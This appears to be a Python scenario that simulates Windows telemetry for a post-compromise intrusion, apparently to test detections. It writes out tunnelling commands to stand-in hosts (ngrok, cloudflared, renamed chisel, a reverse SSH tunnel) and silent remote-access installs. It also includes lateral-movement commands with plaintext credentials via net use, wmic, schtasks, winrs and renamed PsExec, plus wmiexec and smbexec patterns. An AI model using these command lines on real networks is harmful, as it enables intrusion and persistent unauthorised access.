"""Operators on a workstation dig tunnels, set up remote access programs and go on to servers by every way of administrators;
one comes back over the tunnel by wmiexec and smbexec. Resembles Scattered Spider and affiliates of Akira once inside."""
import contextlib

from scenery import Desktop

SETTING = {"start": "2024-11-13T22:08:15", "user": "CORP\\t.moreau", "home": "C:\\Users\\t.moreau", "computer": "PAR-WS113",
           "os_version": (10, 0, 22631)}
MICROSOFT = {"company": "Microsoft Corporation"}
SYSTEM32 = "C:\\Windows\\System32\\"
POWERSHELL = SYSTEM32 + r"WindowsPowerShell\v1.0\powershell.exe"
SERVICES = r"HKLM\System\CurrentControlSet\Services"
TARGET = "10.0.2.20"
NEST = r"C:\ProgramData\ssh"


@contextlib.contextmanager
def told(c, sample, what, severity, techniques, about):
    """A behaviour of the sample; the processes that are added to the list it gives count as doers."""
    helpers = []
    with c.behaviour(what, severity, techniques, sample, about):
        yield helpers
    c.behaviours[-1].pids |= {one.pid for one in helpers}
    c.wait(15)


@contextlib.contextmanager
def by_shell(c, parent, helpers, image, line):
    """`cmd /c LINE`; within, the tool runs."""
    shell = c.spawn(parent, SYSTEM32 + "cmd.exe", r"C:\Windows\system32\cmd.exe /C " + line, **MICROSOFT)
    company = MICROSOFT if image.startswith("C:\\Windows") else {}
    child = c.spawn(shell, image, line, **company)
    c.load(child, SYSTEM32 + "kernel32.dll")
    helpers += [shell, child]
    yield child
    c.exit(child)
    c.exit(shell)


def new_service(c, desktop, name, line):
    key = SERVICES + "\\" + name
    c.key(desktop.services, key, new=True)
    for value, kind, data in (("Type", "REG_DWORD", 16), ("Start", "REG_DWORD", 2), ("ErrorControl", "REG_DWORD", 0),
                              ("ImagePath", "REG_EXPAND_SZ", line), ("DisplayName", "REG_SZ", name),
                              ("ObjectName", "REG_SZ", "LocalSystem")):
        c.set_value(desktop.services, key + "\\" + value, kind, data)


def tunnels(c, sample):
    with told(c, sample, "forwards a port of this machine to a server's remote desktop (portproxy)", "high",
              ("T1090.001", "T1090", "T1572"), ("portproxy", "v4tov4")) as helpers:
        line = ("netsh interface portproxy add v4tov4 listenport=8443 listenaddress=0.0.0.0 connectport=3389 "
                "connectaddress=" + TARGET)
        with by_shell(c, sample, helpers, SYSTEM32 + "netsh.exe", line) as tool:
            c.set_value(tool, SERVICES + r"\PortProxy\v4tov4\tcp\0.0.0.0/8443", "REG_SZ", TARGET + "/3389")
    c.host("203.0.113.201", "connect.ngrok-agent.com")
    with told(c, sample, "opens remote desktop to the net by ngrok", "high", ("T1572", "T1090", "T1219"),
              "ngrok") as helpers:
        c.drop(sample, NEST + r"\ngrok.exe", 9_000_000, chunk=1_000_000)
        c.drop(sample, c.home + r"\AppData\Local\ngrok\ngrok.yml", 88)
        with by_shell(c, sample, helpers, NEST + r"\ngrok.exe", NEST + r"\ngrok.exe tcp 3389 --region eu") as tool:
            c.exchange(tool, ("203.0.113.201", 443), 50300, [517, 400, 300], [1400, 1400, 200])
    c.host("203.0.113.202", "region1.v2.argotunnel.com")
    with told(c, sample, "runs a Cloudflare tunnel by a token", "high", ("T1572", "T1090"), "cloudflared") as helpers:
        c.drop(sample, NEST + r"\cloudflared.exe", 8_000_000, chunk=1_000_000)
        helpers.append(c.spawn(sample, NEST + r"\cloudflared.exe",
                               "cloudflared.exe tunnel run --token eyJhIjoiOGYzMmQwN2MiLCJ0IjoiYjQ0In0="))
        c.exchange(helpers[0], ("203.0.113.202", 7844), 50310, [517, 600], [1400, 300])
    with told(c, sample, "runs chisel under another name as a reverse SOCKS proxy", "high", ("T1572", "T1090", "T1090.001"),
              ("R:socks", "203.0.113.50")) as helpers:
        c.drop(sample, NEST + r"\sshagent.exe", 7_000_000, chunk=1_000_000)
        helpers.append(c.spawn(sample, NEST + r"\sshagent.exe",
                               "sshagent.exe client --auth u:p4 --max-retry-count 5 https://203.0.113.50:443 R:socks"))
        c.exchange(helpers[0], ("203.0.113.50", 443), 50322, [517, 700, 60], [1400, 900, 60])
    with told(c, sample, "lets a foreign server back in by a reverse tunnel of SSH", "high", ("T1572", "T1021.004", "T1090"),
              ("ssh.exe", "203.0.113.51")) as helpers:
        line = "ssh.exe -N -o StrictHostKeyChecking=no -R 1080 -R 33389:127.0.0.1:3389 tun@203.0.113.51 -p 443"
        helpers.append(c.spawn(sample, SYSTEM32 + r"OpenSSH\ssh.exe", line, **MICROSOFT))
        c.exchange(helpers[0], ("203.0.113.51", 443), 50330, [41, 1500, 80], [41, 1100, 500])


def remote_access(c, sample, desktop, installer):
    with told(c, sample, "installs AnyDesk silently and gives it a password", "high", ("T1219.002", "T1219"),
              "AnyDesk") as helpers:
        path, home = r"C:\ProgramData\AnyDesk.exe", r"C:\Program Files (x86)\AnyDesk"
        maker = {"company": "AnyDesk Software GmbH", "description": "AnyDesk"}
        c.drop(sample, path, 3_900_000, chunk=1_000_000)
        setup = c.spawn(sample, path, '%s --install "%s" --start-with-win --silent' % (path, home), **maker)
        helpers.append(setup)
        c.folder(setup, home)
        c.drop(setup, home + r"\AnyDesk.exe", 3_900_000, chunk=1_000_000)
        new_service(c, desktop, "AnyDesk", '"%s\\AnyDesk.exe" --service' % home)
        c.exit(setup)
        shell = c.spawn(sample, SYSTEM32 + "cmd.exe", r'cmd.exe /c echo Zima2024! | "%s\AnyDesk.exe" --set-password' % home,
                        **MICROSOFT)
        helpers += [shell, c.spawn(shell, home + r"\AnyDesk.exe", r'"%s\AnyDesk.exe"  --set-password' % home, **maker)]
        c.exit(helpers[-1])
        c.exit(shell)
    with told(c, sample, "installs ScreenConnect from a package that it dropped", "high",
              ("T1219.002", "T1219", "T1218.007"),
              ("ScreenConnect", "sc_support.msi")) as helpers:
        package, home = r"C:\Windows\Temp\sc_support.msi", r"C:\Program Files (x86)\ScreenConnect Client (4f1c7d20b9e35a86)"
        c.drop(sample, package, 5_000_000, chunk=1_000_000)
        helpers += [c.spawn(sample, SYSTEM32 + "msiexec.exe", "msiexec.exe /i %s /qn" % package, **MICROSOFT), installer]
        c.read(installer, package, 5_000_000, chunk=1_000_000)
        c.folder(installer, home)
        for name, size in (("ScreenConnect.ClientService.exe", 96_000), ("ScreenConnect.Client.dll", 190_000),
                           ("system.config", 1200)):
            c.drop(installer, home + "\\" + name, size)
        new_service(c, desktop, "ScreenConnect Client (4f1c7d20b9e35a86)",
                    '"%s\\ScreenConnect.ClientService.exe" "?e=Access&y=Guest&h=relay.exam.example&p=8041"' % home)
        agent = c.spawn(desktop.services, home + r"\ScreenConnect.ClientService.exe",
                        '"%s\\ScreenConnect.ClientService.exe" "?e=Access&y=Guest&h=relay.exam.example&p=8041"' % home,
                        company="ScreenConnect Software")
        c.exchange(agent, ("198.51.100.41", 8041), 50400, [300, 200], [500])
        c.exit(helpers[0])
    with told(c, sample, "installs RustDesk silently", "high", ("T1219.002", "T1219"), "rustdesk") as helpers:
        c.drop(sample, r"C:\ProgramData\rustdesk.exe", 6_000_000, chunk=1_000_000)
        helpers.append(c.spawn(sample, r"C:\ProgramData\rustdesk.exe", r"C:\ProgramData\rustdesk.exe --silent-install",
                               company="Purslane Ltd"))
        c.drop(helpers[0], r"C:\Program Files\RustDesk\rustdesk.exe", 6_000_000, chunk=1_000_000)
        new_service(c, desktop, "RustDesk", r'"C:\Program Files\RustDesk\rustdesk.exe" --service')
        c.exit(helpers[0])
    with told(c, sample, "starts NetSupport Manager from the user's profile and at every logon", "high",
              ("T1219.002", "T1219", "T1547.001"), ("client32", "WinSupHost")):
        home = c.home + r"\AppData\Roaming\WinSup"
        c.folder(sample, home)
        for name, size in (("client32.exe", 104_000), ("PCICL32.dll", 3_700_000), ("TCCTL32.DLL", 390_000),
                           ("HTCTL32.DLL", 320_000),
                           ("client32.ini", 900), ("NSM.LIC", 260)):
            c.drop(sample, home + "\\" + name, size, chunk=1_000_000)
        run = r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run"
        c.set_value(sample, run + r"\WinSupHost", "REG_SZ", home + r"\client32.exe")
        client = c.spawn(sample, home + r"\client32.exe", is_64bit=False, company="NetSupport Ltd")
        c.load(client, home + r"\PCICL32.dll")
        c.exchange(client, ("198.51.100.42", 443), 50410, [290, 290], [210])
    c.behaviours[-1].pids.add(client.pid)


def servers(c, sample, desktop, kernel):
    share = "\\\\" + TARGET + "\\C$"
    with told(c, sample, "connects to a server's administrative share with a password in the command", "high",
              ("T1021.002", "T1078", "T1078.002"), ("C$", TARGET)) as helpers:
        line = r"net use %s /user:CORP\adm.rousseau Hiver#2024" % share
        with by_shell(c, sample, helpers, SYSTEM32 + "net.exe", line):
            c.net(kernel, "Connect", (TARGET, 445), 50500)
            c.net(kernel, "Send", (TARGET, 445), 50500, 480)
            c.net(kernel, "Receive", (TARGET, 445), 50500, 400)
    with told(c, sample, "copies its program to a server's administrative share", "high", ("T1021.002", "T1570"),
              ("C$", "updsrv.exe")) as helpers:
        shell = c.spawn(sample, SYSTEM32 + "cmd.exe",
                        r"cmd.exe /C copy /y %s\updsrv.exe %s\Windows\Temp\updsrv.exe" % (NEST, share),
                        **MICROSOFT)
        helpers.append(shell)
        c.read(shell, NEST + r"\updsrv.exe", 400_000)
        c.drop(shell, share + r"\Windows\Temp\updsrv.exe", 400_000)
        c.exit(shell)
    for image, line, port, what, techniques, about in (
            ("sc.exe", r'sc \\%s create UpdSrv binPath= "C:\Windows\Temp\updsrv.exe" start= auto' % TARGET, 135,
             "makes a service on a server by sc", ("T1021.002", "T1569.002", "T1543.003", "T1021"), "UpdSrv"),
            (r"wbem\WMIC.exe", r'wmic /node:%s /user:CORP\adm.rousseau /password:Hiver#2024 process call create "cmd /c '
             r'C:\Windows\Temp\updsrv.exe"' % TARGET, 135, "starts a program on a server by WMI", "T1047",
             "process call create"),
            ("schtasks.exe",
             r"schtasks /create /s %s /ru SYSTEM /tn UpdSrv /tr C:\Windows\Temp\updsrv.exe /sc onstart" % TARGET, 135,
             "makes a task on a server", ("T1053.005", "T1021.002", "T1021"), "schtasks"),
            ("winrs.exe", r"winrs -r:%s -u:CORP\adm.rousseau -p:Hiver#2024 whoami /all" % TARGET, 5985,
             "runs a command on a server by winrs", "T1021.006", "winrs")):
        with told(c, sample, what, "high", techniques, about) as helpers:
            with by_shell(c, sample, helpers, SYSTEM32 + image, line) as tool:
                c.exchange(tool, (TARGET, port), 50510 + port % 97, [310, 220], [260, 180])
    with told(c, sample, "runs a script on a server by PowerShell", "high", ("T1021.006", "T1059.001"),
              "Invoke-Command") as helpers:
        helpers.append(c.spawn(sample, POWERSHELL, "powershell.exe -nop -c \"Invoke-Command -ComputerName FS01.corp.example "
                               "-ScriptBlock { Get-ChildItem D:\\ }\"", **MICROSOFT))
        c.load(helpers[0], SYSTEM32 + "WsmSvc.dll")
        c.exchange(helpers[0], (TARGET, 5985), 50530, [1400, 900], [800, 3000])
        c.exit(helpers[0])
    with told(c, sample, "starts a shell as SYSTEM on a server by a renamed PsExec", "high",
              ("T1021.002", "T1569.002", "T1570"),
              ("psx.exe", "PSEXESVC")) as helpers:
        c.drop(sample, NEST + r"\psx.exe", 830_000)
        helpers.append(c.spawn(sample, NEST + r"\psx.exe", r"psx.exe \\%s -accepteula -s -d cmd /c whoami" % TARGET,
                               company="Sysinternals - www.sysinternals.com", description="Execute processes remotely"))
        c.set_value(helpers[0], r"HKCU\Software\Sysinternals\PsExec\EulaAccepted", "REG_DWORD", 1)
        c.drop(helpers[0], r"\\%s\ADMIN$\PSEXESVC.exe" % TARGET, 380_000)
        c.exit(helpers[0])


def back_in(c, desktop, launcher, system):
    """The operators come back to this machine through the tunnel, with an administrator's hash."""
    host = c.spawn(launcher, SYSTEM32 + r"wbem\WmiPrvSE.exe", SYSTEM32 + r"wbem\wmiprvse.exe -secured -Embedding",
                   user="NT AUTHORITY\\NETWORK SERVICE", sid="S-1-5-20", **MICROSOFT)
    with told(c, host, "commands come over WMI, their output goes to ADMIN$ of this machine (wmiexec)", "high",
              ("T1047", "T1021.002", "T1059.003"), r"ADMIN$") as helpers:
        for number, command in enumerate(("cd \\ ", "whoami", "quser")):
            output = r"\\127.0.0.1\ADMIN$\__1731535%d.41" % (702 + 9 * number)
            shell = c.spawn(host, SYSTEM32 + "cmd.exe", "cmd.exe /Q /c %s 1> %s 2>&1" % (command, output),
                            user="CORP\\adm.rousseau",
                            integrity="High", sid="S-1-5-21-1004336348-1177238915-682003330-1107", **MICROSOFT)
            helpers.append(shell)
            c.open(shell, output, 0x120116, 5, 2)
            c.close(shell, output)
            c.drop(system, "C:\\Windows\\" + output.rsplit("\\", 1)[1], 12)
            if number:
                child = c.spawn(shell, SYSTEM32 + command + ".exe", command, **MICROSOFT)
                helpers.append(child)
                c.write_at(child, output, 0, 24)
                c.exit(child)
            c.exit(shell)
            c.delete(system, "C:\\Windows\\" + output.rsplit("\\", 1)[1])
    with told(c, desktop.services, "a service whose program is a command that writes a batch file and runs it (smbexec)",
              "high",
              ("T1569.002", "T1543.003", "T1021.002", "T1059.003"), ("__output", "BTOBTO", "execute.bat")) as helpers:
        line = (r"%COMSPEC% /Q /c echo ipconfig ^> \\PAR-WS113\C$\__output 2^>^&1 > %TEMP%\execute.bat & "
                r"%COMSPEC% /Q /c %TEMP%\execute.bat & del %TEMP%\execute.bat")
        new_service(c, desktop, "BTOBTO", line)
        command = SYSTEM32 + "cmd.exe"
        long_line = line.replace("%COMSPEC%", command).replace("%TEMP%", r"C:\Windows\TEMP")
        shell = c.spawn(desktop.services, command, long_line, **MICROSOFT)
        c.drop(shell, r"C:\Windows\Temp\execute.bat", 62)
        inner = c.spawn(shell, command, command + r" /Q /c C:\Windows\TEMP\execute.bat", **MICROSOFT)
        c.read(inner, r"C:\Windows\Temp\execute.bat", 62)
        tool = c.spawn(inner, SYSTEM32 + "ipconfig.exe", "ipconfig  ", **MICROSOFT)
        helpers += [shell, inner, tool]
        c.drop(tool, r"\\PAR-WS113\C$\__output", 800)
        for process in (tool, inner):
            c.exit(process)
        c.delete(shell, r"C:\Windows\Temp\execute.bat")
        c.exit(shell)
        c.delete_key(desktop.services, SERVICES + r"\BTOBTO")


def story(c):
    desktop = Desktop(c)
    kernel = c.system("System", pid=4)
    installer = c.system(SYSTEM32 + "msiexec.exe", SYSTEM32 + "msiexec.exe /V", parent=desktop.services)
    launcher = c.system(SYSTEM32 + "svchost.exe", SYSTEM32 + "svchost.exe -k DcomLaunch -p", parent=desktop.services)
    desktop.murmur(8)
    sample = c.spawn(desktop.explorer, c.home + r"\Downloads\TeamsUpdate_x64.exe", integrity="High")
    for name in ("kernel32", "winhttp", "ws2_32"):
        c.load(sample, SYSTEM32 + name + ".dll")
    c.exchange(sample, ("198.51.100.40", 443), 50200, [517, 300], [14_600] * 20)
    c.folder(sample, NEST)
    c.drop(sample, NEST + r"\updsrv.exe", 400_000)
    tunnels(c, sample)
    desktop.murmur(4)
    remote_access(c, sample, desktop, installer)
    desktop.murmur(4)
    servers(c, sample, desktop, kernel)
    back_in(c, desktop, launcher, kernel)
    desktop.murmur(5)
